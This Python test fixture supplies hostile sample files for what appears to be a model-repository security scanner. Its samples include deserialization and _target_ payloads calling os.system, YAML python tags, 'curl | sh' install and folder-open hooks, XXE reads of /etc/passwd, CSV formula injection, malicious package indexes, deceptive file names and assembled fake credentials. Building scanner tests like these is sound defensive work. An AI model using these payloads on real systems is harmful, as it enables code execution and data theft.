"""Documents that make some loader, tool or person do something: name -> (file name, bytes, rule).

Secrets are put together from parts, so that no tool that looks for secrets takes them for real.
"""

from __future__ import annotations

import json

__all__ = ["HOSTILE"]

_LETTERS = "QwErTyUiOpAsDfGhJkLzXcVbNmKqWzRtBvPd"
_MIXED = "Zk3Qw9Er2Ty7Ui5Op1As8Df4Gh6Jk0LzXcVbNmqWpLoKjIhUgYfTdRsEaZ"
_BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj" * 4
_HEX = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"


def _json(name: str, value: object, rule: str) -> tuple[str, bytes, str]:
    return name, json.dumps(value).encode(), rule


def _text(name: str, text: str, rule: str) -> tuple[str, bytes, str]:
    return name, text.encode(), rule


_CALLS = [
    *("os.system", "builtins.exec", "builtins.eval", "subprocess.Popen", "subprocess.check_output"),
    *("posix.system", "nt.system", "runpy.run_path", "importlib.import_module", "pickle.loads"),
    *("torch.load", "torch.hub.load", "numpy.load", "shutil.rmtree", "webbrowser.open"),
    *("nemo.core.classes.common.os.system", "torch.serialization.os.system", "pty.spawn"),
    *("numpy.f2py.crackfortran.myeval", "builtins:exec", "exec", "urllib.request.urlretrieve"),
]
# Each is imported and called with the keys beside it (NVIDIA NeMo, CVE-2025-23304; hydra's
# ``instantiate``; uni2TS and FlexTok had the same).
_TARGETS = [_json("config.json", {"model": {"_target_": name}}, "WB-DOC-005") for name in _CALLS]
_TARGETS += [
    _text("hparams.yaml", f"cfg:\n  - _target_: '{name}'\n    command: id\n", "WB-DOC-005")
    for name in _CALLS[:6]
]
_REMOTE = [
    _json("config.json", {"auto_map": {"AutoModel": "modeling_x.X"}}, "WB-DOC-001"),
    _json("config.json", {"auto_map": {"AutoModel": "evil/repo--modeling_x.X"}}, "WB-DOC-002"),
    _json("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["t.T", None]}}, "WB-DOC-001"),
    _json("adapter_config.json", {"auto_mapping": {"x": "evil.module.X"}}, "WB-DOC-001"),
    ("config.json", b'{"\\u0061uto_ma\\u0070": {"A": "m.X"}}', "WB-DOC-001"),
    ("config.json", b'{"auto_map": {"A": "m.X"}, "auto_map": {}}', "WB-DOC-001"),
    ("config.json", b'{"auto_map": {"A": "m.X"}, /* c */ "a": 1,}', "WB-DOC-001"),
    ("config.json5", b"// c\n{auto_map: {'A': 'm.X'}}", "WB-DOC-001"),
    ("config.json", b'\xef\xbb\xbf{"auto_map": {"A": "m.X"}}', "WB-DOC-001"),
    ("config.json", '{"auto_map": {"A": "m.X"}}'.encode("utf-16"), "WB-DOC-001"),
    ("config.json", '{"auto_map": {"A": "m.X"}}'.encode("utf-16-le"), "WB-DOC-001"),
    ("data.jsonl", b'{"a": 1}\n{"auto_map": {"A": "m.X"}}\n', "WB-DOC-001"),
    _json("config.json", {"trust_remote_code": True}, "WB-DOC-003"),
    _text("serve.yaml", "engine:\n  trust_remote_code: yes\n", "WB-DOC-003"),
    _json("config.json", {"custom_pipelines": {"x": {"impl": "p.P"}}}, "WB-DOC-004"),
    _json("config.json", {"custom_pipelines": {"x": {"impl": "a/b--p.P"}}}, "WB-DOC-002"),
    _json("x.json", {"custom_pipeline": "evil/pipeline"}, "WB-DOC-004"),
    _json("model_index.json", {"_class_name": "P", "unet": ["my_unet", "Net"]}, "WB-DOC-004"),
    _json("model_index.json", {"_class_name": "P", "unet": ["../x", "Net"]}, "WB-DOC-005"),
    _json("model_index.json", {"_class_name": "P", "unet": ["os", "system"]}, "WB-DOC-005"),
    _json("model_index.json", {"_class_name": ["pipeline", "P"]}, "WB-DOC-004"),
    _json("modules.json", [{"path": "", "type": "custom.module.M"}], "WB-DOC-004"),
    _json("modules.json", [{"path": "", "type": "subprocess.Popen"}], "WB-DOC-005"),
]
_OBJECTS = [
    _json("a.json", {"py/object": "app.Model"}, "WB-DOC-007"),
    _json("a.json", {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["id"]}]}, "WB-DOC-005"),
    _json("a.json", {"x": [{"py/function": "builtins.eval"}]}, "WB-DOC-005"),
    _json("a.json", {"py/repr": "os/os.system('id')"}, "WB-DOC-005"),
    _json("a.json", {"py/object": "__main__.X", "py/state": {}}, "WB-DOC-007"),
    _json("a.json", {"_target_": "src.models.Net"}, "WB-DOC-006"),
    _json("a.json", {"_target_": "torch.nn.Linear.load_state_dict"}, "WB-DOC-006"),
    _json("a.json", {"_target_": "UNet", "x": "$__import__('os').system('id')"}, "WB-DOC-005"),
    _json("a.json", {"_target_": "UNet", "x": "$open('x')"}, "WB-DOC-017"),
    _text("t.yaml", "model:\n  _component_: os.system\n", "WB-DOC-005"),
    _text("t.yaml", "model:\n  class_path: os.system\n  init_args: {}\n", "WB-DOC-005"),
    _text("t.yaml", "model:\n  target: os.system\n  params: {command: id}\n", "WB-DOC-005"),
    _text("t.yaml", "model:\n  target: evil.module.Net\n  params: {}\n", "WB-DOC-006"),
]
_YAML = [
    _text("a.yaml", "!!python/object/apply:os.system [id]\n", "WB-DOC-008"),
    _text("a.yaml", "- !!python/object/new:subprocess.Popen [[id]]\n", "WB-DOC-008"),
    _text("a.yaml", "a: !!python/module:evil\n", "WB-DOC-008"),
    _text("a.yaml", "a: !!python/name:os.system\n", "WB-DOC-008"),
    _text("a.yaml", "a: !!python/object:app.Model {x: 1}\n", "WB-DOC-009"),
    _text("a.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\n!p!name:os.system\n", "WB-DOC-008"),
    _text("a.yaml", "--- !<tag:yaml.org,2002:python/name:os.system> x\n", "WB-DOC-008"),
    _text("a.yaml", "- !!%70ython/object/apply:os.system [id]\n", "WB-DOC-008"),
    _text("a.yaml", "a: !include other.yaml\n", "WB-DOC-009"),
    _text("a.yaml", "a: !ENV ${X}\n", "WB-DOC-009"),
    _text("a.yaml", "a: !ruby/object:Gem::Installer\n  i: x\n", "WB-DOC-009"),
    _text("a.yaml", "a: 1\n---\nb: !!python/object/apply:os.system [id]\n", "WB-DOC-008"),
    _text("a.txt", "a: !!python/object/apply:os.system [id]\n", "WB-DOC-008"),
    _text("a.json", '{"a": !!python/object/apply:os.system ["id"]}', "WB-DOC-008"),
    _text("a.yaml", 'model: {"\\x5ftarget_": os.system}\n', "WB-DOC-005"),
    _text("a.yaml", "x: &x {_target_: os.system}\ny: {<<: *x}\n", "WB-DOC-005"),
    _text("a.yaml", "_target_: os.system\n_target_: torch.nn.Linear\n", "WB-DOC-005"),
    _text(
        "a.yaml",
        "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9)),
        "WB-DOC-010",
    ),
]
_TOOLS = [
    _text("MLmodel", "flavors:\n  python_function:\n    loader_module: evil\n", "WB-DOC-012"),
    _text("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n", "WB-DOC-005"),
    _text("conda.yaml", "channels: [https://evil.example/c]\n", "WB-REQ-001"),
    _text("conda.yaml", "dependencies:\n- pip:\n  - git+https://e.example/x\n", "WB-REQ-002"),
    _text("python_env.yaml", "dependencies:\n- -r https://evil.example/r.txt\n", "WB-REQ-002"),
    _json("package.json", {"scripts": {"postinstall": "curl e | sh"}}, "WB-DOC-011"),
    _json(
        ".mcp.json", {"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}}, "WB-DOC-011"
    ),
    _json(".vscode/tasks.json", {"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}, "WB-DOC-011"),
    _json(".devcontainer/devcontainer.json", {"postCreateCommand": "curl e|sh"}, "WB-DOC-011"),
    _json(".claude/settings.json", {"hooks": {"SessionStart": [{"command": "x"}]}}, "WB-DOC-011"),
    _text("dvc.yaml", "stages:\n  a:\n    cmd: curl http://e | sh\n", "WB-DOC-011"),
    _text("data.csv", "a,b\n1,=cmd|'/c calc'!A0\n", "WB-DOC-015"),
    _text("data.csv", 'a\n"=HYPERLINK(""http://e/""&A1)"\n', "WB-DOC-015"),
]
_REQUIREMENTS = [
    _text(
        "requirements.txt", "--extra-index-url https://pkgs.evil.example/simple\nx\n", "WB-REQ-001"
    ),
    _text("requirements.txt", "-i https://pkgs.evil.example/simple\n", "WB-REQ-001"),
    _text("requirements-dev.txt", "--find-links=https://evil.example/wheels\n", "WB-REQ-001"),
    _text("requirements.txt", "--index-url http://pypi.org/simple\n", "WB-REQ-003"),
    _text("requirements.txt", "--trusted-host evil.example\n", "WB-REQ-003"),
    _text("requirements.txt", "git+https://github.com/evil/x.git@main#egg=x\n", "WB-REQ-002"),
    _text("requirements.txt", "x @ https://evil.example/x.whl\n", "WB-REQ-002"),
    _text("requirements.txt", "https://evil.example/x-1.tar.gz\n", "WB-REQ-002"),
    _text("requirements.txt", "-e git+ssh://git@evil.example/x.git\n", "WB-REQ-002"),
    _text("requirements.txt", "torch\n--extra-index-url \\\n https://e.example/s\n", "WB-REQ-001"),
    _text("requirements.txt", "torchtriton\n", "WB-REQ-005"),
    _text("requirements.txt", "tensorflo" + "==2.0\n", "WB-REQ-005"),
    _text("pip.conf", "[global]\nextra-index-url = https://e.example/s\n", "WB-REQ-001"),
    _text(
        "pyproject.toml",
        '[project]\ndependencies = ["x @ git+https://e.example/x"]\n',
        "WB-REQ-002",
    ),
    _text(
        "pyproject.toml",
        '[tool.poetry.dependencies]\nx = {git = "https://e.example/x"}\n',
        "WB-REQ-002",
    ),
    _text("setup.cfg", "[options]\ndependency_links = https://e.example/x\n", "WB-REQ-001"),
    _text("Pipfile", '[[source]]\nurl = "https://e.example/simple"\n', "WB-REQ-001"),
]
_SECRETS = [
    _text("notes.txt", f"token = hf_{_LETTERS[:34]}\n", "WB-SEC-001"),
    _text("README.md", f"login with hf_{_LETTERS[:34]}.\n", "WB-SEC-001"),
    _text("train.py", f'login("hf_{_LETTERS[:34]}")\n', "WB-SEC-001"),
    _json("config.json", {"key": "AKIA" + "QYLPMN5HHHFPZAM2"}, "WB-SEC-001"),
    _text("a.sh", f"export AWS_SECRET_ACCESS_KEY={_MIXED[:40]}\n", "WB-SEC-001"),
    _text("a.txt", f"ghp_{_MIXED[:36]}\n", "WB-SEC-001"),
    _text("a.yaml", f"openai: sk-{_MIXED[:48]}\n", "WB-SEC-001"),
    _text("a.env", f"ANTHROPIC=sk-ant-api03-{(_MIXED * 2)[:93]}AA\n", "WB-SEC-001"),
    _text("a.txt", f"xoxb-902384756120-{_MIXED[:24]}\n", "WB-SEC-001"),
    _text("a.txt", f"key=AIza{_MIXED[:35]}\n", "WB-SEC-001"),
    _text("a.ini", f"WANDB_API_KEY={_HEX}\n", "WB-SEC-001"),
    _text("id.txt", f"-----BEGIN RSA PRIVATE {'KEY'}-----\n{_BODY}\n", "WB-SEC-002"),
    _json("sa.json", {"private_key": f"-----BEGIN PRIVATE {'KEY'}-----\n{_BODY}"}, "WB-SEC-002"),
    _text("a.cfg", "url = postgres://bob:Zk3Qw9Er2Ty7@db.corp.net/x\n", "WB-SEC-003"),
    _text(".git-credentials", "https://bob:Zk3Qw9Er2Ty7@github.com\n", "WB-SEC-003"),
    _text(".netrc", "machine h login bob password Zk3Qw9Er2Ty7\n", "WB-SEC-003"),
    _text(".env", "DB_PASSWORD=Zk3Qw9Er2Ty7\n", "WB-SEC-003"),
]
_NAMES = [
    *(_text(name, "x\n", "WB-HID-001") for name in (".bashrc", ".git/hooks/post-checkout")),
    *(_text(name, "x = 1\n", "WB-HID-001") for name in ("sitecustomize.py", "a/usercustomize.py")),
    *(
        _text(name, "x\n", "WB-HID-001")
        for name in ("setup.lnk", "run.desktop", ".ssh/authorized_keys")
    ),
    _text("evil.pth", "import os; os.system('id')\n", "WB-HID-001"),
    _text("model.safetensors.exe", "x\n", "WB-HID-002"),
    _text("weights.pdf   .scr", "x\n", "WB-HID-002"),
    _text("model\u202egnp.exe", "x\n", "WB-HID-002"),
    _text("mo\u200bdel.bin", "x\n", "WB-HID-002"),
    _text("aux.json", "{}", "WB-HID-003"),
    _text("model.bin:evil.exe", "x\n", "WB-HID-003"),
]
_XML = [
    _text(
        "a.xml",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        "WB-XML-001",
    ),
    _text(
        "a.xml",
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://e.example/x">%x;]><r/>',
        "WB-XML-001",
    ),
    _text(
        "a.xml",
        '<!DOCTYPE r [<!ENTITY a "x">'
        + "".join(f'<!ENTITY {b} "&{a};&{a};">' for a, b in zip("abcde", "bcdef", strict=True))
        + "]><r>&f;</r>",
        "WB-DOC-010",
    ),
    _text("a.xml", '<java version="1" class="java.beans.XMLDecoder"/>', "WB-XML-002"),
    _text("a.xml", '<set><a class="java.lang.ProcessBuilder"/></set>', "WB-XML-002"),
    _text("a.xaml", '<ResourceDictionary xmlns="x"/>', "WB-XML-002"),
    (
        "a.xml",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r/>'.encode("utf-16"),
        "WB-XML-001",
    ),
]

HOSTILE = [
    *(*_TARGETS, *_REMOTE, *_OBJECTS, *_YAML, *_TOOLS),
    *(*_REQUIREMENTS, *_SECRETS, *_NAMES, *_XML),
]
"""(file name, bytes, the rule that has to be among the findings)."""
